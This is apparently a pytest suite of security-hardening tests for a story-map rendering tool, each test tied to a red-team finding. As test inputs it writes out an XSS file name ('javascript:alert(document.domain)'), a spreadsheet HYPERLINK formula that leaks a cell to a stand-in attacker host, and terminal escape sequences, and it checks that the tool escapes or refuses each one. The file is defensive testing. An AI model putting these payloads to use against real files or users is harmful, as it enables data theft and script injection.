"""Hardening, round two (issue 19): what a red-team pass found, each held by a test."""

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

import geo
from geo.outputs import render_all

DOLLARS = ("title: 'fuel at $5 a litre, bread at $2'\n"
           "subtitle: '$\\undefinedcommand{x}$ and $$'\n"
           "places:\n  - {id: a, name: '$x$ town', lonlat: [40, 33]}\n"
           "  - {id: b, name: Rutba, lookup: Ar Rutbah}\n"
           "movements:\n  - {from: a, to: b, label: '$3 each, $4 return', date: 2024-12-01}\n"
           "areas:\n  - {lookup: Al Anbar, label: 'Anbar ($1 bread)'}\n")


def test_dollar_signs_are_text_in_every_static_format():
    # matplotlib reads text between two $ as mathtext: "fuel at $5 a litre, bread at $2"
    # came out as italic math, and malformed math crashed png, svg, pdf and gif.
    story = geo.parse_story(DOLLARS)
    out = render_all(story, ["png", "svg", "pdf", "gif"])
    svg = out["svg"].decode("utf-8")
    for text in ("fuel at $5 a litre, bread at $2", "$x$ town", "$3 each, $4 return",
                 "Anbar ($1 bread)"):
        assert text in svg, text
    assert out["png"].startswith(b"\x89PNG") and out["gif"].startswith(b"GIF89a")


def test_a_hostile_file_name_never_becomes_a_scheme_in_the_embed_snippet(tmp_path):
    # A story file named javascript:alert(document.domain).yaml gave
    # <iframe src="javascript:alert(document.domain).html">, which Chromium ran.
    story = geo.parse_story("title: t\nplaces: [{id: a, name: A, lonlat: [40, 33]}]\n",
                            filename=str(tmp_path / "javascript:alert(document.domain).yaml"))
    snippet = render_all(story, ["html"])["embed.html"].decode("utf-8")
    assert 'src="javascript%3Aalert%28document.domain%29.html"' in snippet
    assert "javascript:" not in snippet
    from geo.web import render_embed

    assert 'src="data%3Atext/html' in render_embed(story, src="data:text/html,<script>")
    assert 'src="https://news.example/maps/a.html"' in render_embed(
        story, src="https://news.example/maps/a.html")


def test_csv_cells_that_spreadsheets_read_as_formulas_stay_text():
    story = geo.parse_story(
        "title: t\nsources: [{id: s, name: '@SUM(1+1)'}]\nplaces:\n"
        "  - {id: a, name: '=HYPERLINK(\"http://evil.invalid/?leak=\"&A2,\"Click\")',"
        " lonlat: [40, 33], note: '+1', source: s}\n"
        "  - {id: b, name: '-2+3', lonlat: [41, 34], note: \"\\tcmd\"}\n")
    rows = list(csv.DictReader(io.StringIO(render_all(story, ["csv"])["csv"].decode())))
    assert rows[0]["name"].startswith("'=HYPERLINK(") and rows[0]["note"] == "'+1"
    assert rows[0]["source_name"] == "'@SUM(1+1)"
    assert rows[1]["name"] == "'-2+3" and rows[1]["note"] == "'\tcmd"


@pytest.mark.skipif(len(os.sched_getaffinity(0)) < 2, reason="one core: nothing is forked")
def test_a_crash_in_the_forked_copy_is_reported_as_itself():
    # The cleanup after a failed forked render closed its pipe again, and that EBADF
    # ("Bad file descriptor") replaced the real error.
    from geo.fork import forked

    failing = forked(lambda: {}["missing"])
    with pytest.raises(KeyError):
        failing()
    failing(cancel=True)  # a cleanup after the failure: a no-op, not an OSError


def test_outputs_follow_the_umask(tmp_path):
    code = ("import os, geo; os.umask(0o077); "
            "geo.save(geo.load_story(geo.example_path()), {!r}, formats=['geojson'])")
    subprocess.run([sys.executable, "-c", code.format(str(tmp_path))], check=True,
                   capture_output=True)
    mode = (tmp_path / "syria-iraq-soldiers.geojson").stat().st_mode & 0o777
    assert mode == 0o600


@pytest.mark.parametrize("value", [".nan", ".inf", "-.inf"])
def test_an_uncertainty_that_is_no_number_is_refused_with_its_position(value):
    # uncertainty_km: .nan was accepted, and a large story's page then showed nothing.
    with pytest.raises(geo.StoryError, match=r"line 2 .*places\[0\]\.uncertainty_km") as err:
        geo.parse_story(f"title: t\nplaces: [{{id: a, name: A, lonlat: [40, 33], "
                        f"uncertainty_km: {value}}}]\n")
    assert len(err.value.problems) == 1


def test_url_schemes_are_compared_without_case():
    story = geo.parse_story("title: t\nsources: [{id: s, name: S, url: 'HTTPS://example.org/a'}]\n"
                            "places: [{id: a, name: A, lonlat: [40, 33], source: s}]\n")
    assert story.sources["s"]["url"] == "HTTPS://example.org/a"
    with pytest.raises(geo.StoryError, match="must start with http"):
        geo.parse_story("title: t\nsources: [{id: s, name: S, url: 'JAVASCRIPT:alert(1)'}]\n"
                        "places: [{id: a, name: A, lonlat: [40, 33]}]\n")


@pytest.mark.parametrize("char", ["\x1b", "\x07", "\x0b", "\x0c", "\x00", "\x9b"])
def test_control_characters_in_story_text_are_refused_with_their_position(char):
    # ESC, BEL, VT, FF were accepted: the KML export crashed and the SVG was not XML.
    text = ('{"title": "t", "places": [{"id": "a", "name": "A' + char.encode(
        "unicode_escape").decode().replace("\\x", "\\u00") + '", "lonlat": [40, 33]}]}')
    with pytest.raises(geo.StoryError, match=r"places\[0\]\.name: text holds the control"):
        geo.parse_story(text, filename="s.json")


def test_terminal_escapes_in_an_article_reach_stderr_escaped(tmp_path):
    article = tmp_path / "a.txt"
    article.write_text("Reports that refugees crossed into Jordan from \x1b]0;pwned\x07Syria "
                       "were denied by Amman.\n", encoding="utf-8")
    res = subprocess.run([sys.executable, "-m", "geo.cli", "--draft", str(article)],
                         capture_output=True, text=True)
    assert "skipped a movement" in res.stderr  # the review quotes the sentence...
    assert "\x1b" not in res.stderr and "\x07" not in res.stderr  # ...escaped
    assert "\\x1b]0;pwned\\x07" in res.stderr


def test_terminal_escapes_in_a_story_never_reach_the_terminal_raw(tmp_path):
    story = tmp_path / "s.yaml"
    story.write_text('title: t\nplaces:\n  - {id: a, name: A, lonlat: [40, 33],'
                     ' review: "\\e]0;pwned\\a\\e[2J"}\n  - {id: b, name: B, lonlat: [41, 34],'
                     ' "\\e[31mkey": 1}\n', encoding="utf-8")
    res = subprocess.run([sys.executable, "-m", "geo.cli", str(story), "-o", str(tmp_path)],
                         capture_output=True, text=True)
    assert res.returncode == 2 and "\x1b" not in res.stderr and "\x07" not in res.stderr
    assert "control character" in res.stderr and not list(tmp_path.glob("*.html"))


# ------------------------------------------------------------- round two, the rest

MAKE_MAP = os.path.join(os.path.dirname(sys.executable), "make-map")


def _group_alive(pgid: int) -> list[int]:
    """The processes of process group ``pgid`` that still run (zombies do not count: in a
    container nobody may reap them)."""
    alive = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[2]) == pgid and fields[0] != "Z":
            alive.append(int(stat.parent.name))
    return alive


def _dead_pid() -> int:
    proc = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, text=True, check=True)
    return int(proc.stdout)


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_a_killed_run_leaves_each_file_whole_and_the_next_run_clears_its_temporary_files(
        tmp_path):
    import signal
    import time

    story = tmp_path / "s.yaml"
    story.write_bytes(Path(geo.example_path()).read_bytes())
    cmd = [MAKE_MAP, str(story), "-q", "-f", "html,png,svg,pdf,geojson,kml,csv", "-o"]
    started = time.monotonic()
    subprocess.run([*cmd, str(tmp_path / "new")], check=True)
    took = time.monotonic() - started
    new = {p.name: p.read_bytes() for p in (tmp_path / "new").iterdir()}
    out = tmp_path / "maps"
    out.mkdir()
    for name in new:
        (out / name).write_bytes(b"the previous " + name.encode())
    old = {p.name: p.read_bytes() for p in out.iterdir()}
    # What a run killed in the middle of writing leaves, as a killed run named them.
    planted = [out / f".s.{fmt}.{_dead_pid()}.k1ll3d00.tmp" for fmt in ("html", "png")]
    for path in planted:
        path.write_bytes(b"half a file")
    # Killed while drawing (the forked copy at work), and as soon as a temporary file shows.
    for delay in (0.35 * took, 0.6 * took, None):
        proc = subprocess.Popen([*cmd, str(out)], start_new_session=True)
        if delay is None:
            deadline = time.monotonic() + 2 * took
            while time.monotonic() < deadline and proc.poll() is None and not any(
                    p.name.endswith(".tmp") and p not in planted for p in out.iterdir()):
                pass
        else:
            time.sleep(delay)
        if proc.poll() is None:  # (on a fast machine the run may have finished: reaped)
            os.kill(proc.pid, signal.SIGKILL)
        proc.wait()
        for _ in range(40):  # the copy dies with it, at once
            if not _group_alive(proc.pid):
                break
            time.sleep(0.05)
        assert not _group_alive(proc.pid), "a forked copy outlived its killed parent"
        for path in out.iterdir():  # each file whole: the previous one or the new one
            if not path.name.endswith(".tmp"):
                assert path.read_bytes() in (old[path.name], new[path.name]), path.name
    subprocess.run([*cmd, str(out)], check=True)
    assert [p.name for p in out.iterdir() if p.name.endswith(".tmp")] == []
    assert {p.name: p.read_bytes() for p in out.iterdir()} == new


def test_a_temporary_file_of_a_live_run_is_left_alone(tmp_path):
    live = tmp_path / f".s.geojson.{os.getpid()}.abcd1234.tmp"
    live.write_bytes(b"being written")
    geo.save(geo.load_story(geo.example_path()), tmp_path, formats=["geojson"], stem="s")
    assert live.exists() and (tmp_path / "s.geojson").exists()


def _index_copy(folder: Path) -> Path:
    """A sealed copy of this machine's gazetteer index in ``folder``."""
    import shutil

    from geo.gazetteer import build_index
    from geo.gazetteer.cache import seal

    folder.mkdir(parents=True, exist_ok=True)
    copy = folder / build_index().name
    shutil.copyfile(build_index(), copy)
    seal(copy)
    return copy


def test_the_temporary_files_of_a_killed_index_build_are_removed_by_the_next(tmp_path):
    from geo.gazetteer import build_index

    index = _index_copy(tmp_path / "cache")
    dead = [index.parent / f".{index.name}.{_dead_pid()}.k1ll3d00{end}"
            for end in (".tmp", ".rest.tmp")]
    live = index.parent / f".{index.name}.{os.getpid()}.l1ve0000.tmp"
    for path in (*dead, live):
        path.write_bytes(b"half an index")
    assert build_index(index) == index
    assert not any(p.exists() for p in dead) and live.exists()


def test_an_index_changed_or_not_this_users_is_not_trusted(tmp_path):
    from geo.gazetteer.cache import trusted

    copy = _index_copy(tmp_path / "cache")
    assert trusted(copy)
    restored = tmp_path / "cache" / "restored.sqlite"  # the same bytes elsewhere: rehashed
    restored.write_bytes(copy.read_bytes())
    os.replace(f"{copy}.seal", f"{restored}.seal")
    assert trusted(restored)
    with open(restored, "r+b") as fh:  # one byte changed, its times set back
        fh.seek(-100, os.SEEK_END)
        byte = fh.read(1)
        fh.seek(-100, os.SEEK_END)
        fh.write(bytes([byte[0] ^ 1]))
    info = restored.stat()
    os.utime(restored, ns=(info.st_atime_ns, info.st_mtime_ns))
    assert not trusted(restored)
    os.unlink(f"{restored}.seal")
    assert not trusted(restored)  # no seal: not known to be this user's
    if os.getuid() == 0:
        other = _index_copy(tmp_path / "other")
        os.chown(other, 65534, 65534)
        assert not trusted(other)


@pytest.mark.skipif(os.getuid() != 0, reason="plants another user's folder with chown")
def test_a_planted_folder_in_the_temporary_folder_is_refused(tmp_path):
    # With a cache folder it cannot write, the lookup used to fall back to a shared,
    # predictable folder in $TMPDIR, and any index already there: a planted copy moved
    # Baghdad to Paris on every map.
    planted = tmp_path / f"geo-storymaps-{os.getuid()}"
    _index_copy(planted)
    os.chown(planted, 65534, 65534)
    env = {**os.environ, "GEO_CACHE_DIR": "/dev/null/no-folder", "TMPDIR": str(tmp_path)}
    res = subprocess.run([MAKE_MAP, "--lookup", "Baghdad"], capture_output=True, text=True,
                         env=env, check=False)
    assert res.returncode == 2 and res.stdout == ""
    assert "is not this user's own folder" in res.stderr and "GEO_CACHE_DIR" in res.stderr
    assert len(res.stderr.splitlines()) == 1 and "Traceback" not in res.stderr


def test_a_cache_folder_named_with_uri_characters(tmp_path):
    # The index's path went into an sqlite URI unescaped: "#", "?" and "%" gave a
    # traceback, and "#" an empty file at the path cut short.
    folder = tmp_path / "a#b?c%41d"
    _index_copy(folder)
    env = {**os.environ, "GEO_CACHE_DIR": str(folder)}
    res = subprocess.run([MAKE_MAP, "--lookup", "Al Qaim", "--json"], capture_output=True,
                         text=True, env=env, check=False)
    assert res.returncode == 0, res.stderr
    assert json.loads(res.stdout)[0]["country"] == "IQ"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a#b?c%41d"]


@pytest.mark.parametrize("place", ["lonlat: [-180, -90]", "lonlat: [40, 33], uncertainty_km: 20000"])
def test_valid_edge_values_draw_in_every_static_format(place):
    # A corner of the world, or an uncertainty of half the Earth's circumference, crashed the
    # static maps (a polygon made valid after projection came back as a collection).
    story = geo.parse_story(f"title: t\nplaces:\n  - {{id: a, name: A, {place}}}\n"
                            "  - {id: b, name: B, lonlat: [41, 34]}\n"
                            "movements:\n  - {from: a, to: b, count: 10000000000}\n")
    out = render_all(story, ["png", "svg", "pdf"])
    assert out["png"].startswith(b"\x89PNG") and out["pdf"].startswith(b"%PDF")
    assert b"10,000,000,000" in out["svg"]


def _longest() -> geo.Story:
    """A story with every text at the longest the schema allows."""
    from geo.story import schema

    def text(field: dict, letter: str) -> str:
        n = field.get("maxLength") or schema()["$defs"][field["$ref"].split("/")[-1]]["maxLength"]
        return " ".join([letter * 9] * (n // 10)) + letter * (n % 10)

    props = schema()["properties"]
    place, move = props["places"]["items"]["properties"], props["movements"]["items"]["properties"]
    doc = {"title": text(props["title"], "T"), "subtitle": text(props["subtitle"], "s"),
           "credit": text(props["credit"], "c"),
           "sources": [{"id": f"s{i}", "name": text(props["sources"]["items"]["properties"]
                                                    ["name"], "n")} for i in range(20)],
           "places": [{"id": "a", "name": text(place["name"], "A"), "lonlat": [40, 33],
                       "note": text(place["note"], "o"), "quote": text(place["quote"], "q"),
                       "source": "s1"},
                      {"id": "b", "name": "B" * place["name"]["maxLength"], "lonlat": [41, 34],
                       "uncertainty_km": 30}],
           "movements": [{"id": "m", "from": "a", "to": "b", "label": text(move["label"], "L"),
                          "actor": text(move["actor"], "a"), "date": "2024-12-01"}],
           "steps": [{"label": "S" * 300, "caption": "C " * 1000, "movements": ["m"]}]}
    return geo.parse_story(json.dumps(doc), filename="longest.json")


@pytest.mark.parametrize("size", ["web", "square"])
def test_texts_at_their_limits_draw_and_longer_ones_are_refused(size):
    # A title of several thousand characters crashed the static maps ("Width and height
    # specified must be non-negative"); the schema now states each text's limit.
    story = _longest()
    out = render_all(story, ["png", "svg", "pdf", "gif"], size=size)
    assert out["png"].startswith(b"\x89PNG") and out["gif"].startswith(b"GIF89a")
    with pytest.raises(geo.StoryError, match=r"line 1 column 8, title: text of 5,000 "
                                             r"characters is longer than the 300"):
        geo.parse_story("title: " + "t" * 5000 + "\nplaces: [{id: a, name: A, lonlat: [40, 33]}]\n")


def test_numbers_past_their_limits_are_refused_with_their_position():
    base = ("title: t\nplaces:\n  - {id: a, name: A, lonlat: [40, 33]}\n"
            "  - {id: b, name: B, lonlat: [41, 34]}\nmovements:\n  - {from: a, to: b, count: %s}\n")
    for count in (2 ** 63, 10_000_000_001, [1, 2 ** 64]):
        with pytest.raises(geo.StoryError, match=r"line 6 .*movements\[0\]\.count: count .* "
                                                 r"must be a whole number of people \(0 to "
                                                 r"10,000,000,000\)"):
            geo.parse_story(base % json.dumps(count))
    with pytest.raises(geo.StoryError, match=r"line 6 column 29: invalid YAML: a number of "
                                             r"5,000 digits"):
        geo.parse_story(base % ("9" * 5000))
    with pytest.raises(geo.StoryError, match=r"line 6 column 29: invalid JSON: a number of "
                                             r"5,000 digits"):
        geo.parse_story((base % ("9" * 5000)), filename="s.json")


def test_a_lone_surrogate_is_refused_with_its_position():
    # "\ud800" in JSON is no character: writing the page failed with UnicodeEncodeError.
    with pytest.raises(geo.StoryError, match=r"s\.json line 1 column 47, places\[0\]\.name: "
                                             r"text holds the lone surrogate '\\ud800'"):
        geo.parse_story('{"title": "t", "places": [{"id": "a", "name": "A\\ud800", '
                        '"lonlat": [40, 33]}]}', filename="s.json")


def test_a_story_of_many_problems_lists_the_first_and_counts_the_rest(tmp_path):
    story = tmp_path / "many.json"
    story.write_text(json.dumps({"title": "t", "places": [
        {"id": f"p{i}", "name": f"P{i}", "lonlat": [400, 33]} for i in range(3000)]}))
    res = subprocess.run([MAKE_MAP, str(story), "-o", str(tmp_path)], capture_output=True,
                         text=True, check=False)
    lines = res.stderr.splitlines()
    assert res.returncode == 2 and len(lines) == 21
    assert lines[-1] == ("make-map: error: and 2,980 more problems like these; fix these and "
                         "run again")
    assert all("is out of range" in line for line in lines[:20])


def test_kml_names_are_escaped_like_descriptions():
    from xml.etree import ElementTree

    story = geo.parse_story("title: t\nplaces:\n  - {id: a, name: '<b>Rutba</b> & co', "
                            "lonlat: [40, 33]}\n  - {id: b, name: B, lonlat: [41, 34]}\n"
                            "movements:\n  - {from: a, to: b, label: '<i>20</i>'}\n")
    root = ElementTree.fromstring(render_all(story, ["kml"])["kml"])
    names = [e.text for e in root.iter("{http://www.opengis.net/kml/2.2}name")]
    assert "&lt;b&gt;Rutba&lt;/b&gt; &amp; co" in names
    assert "&lt;b&gt;Rutba&lt;/b&gt; &amp; co to B: &lt;i&gt;20&lt;/i&gt;" in names
    assert not any("<b>" in (n or "") for n in names)
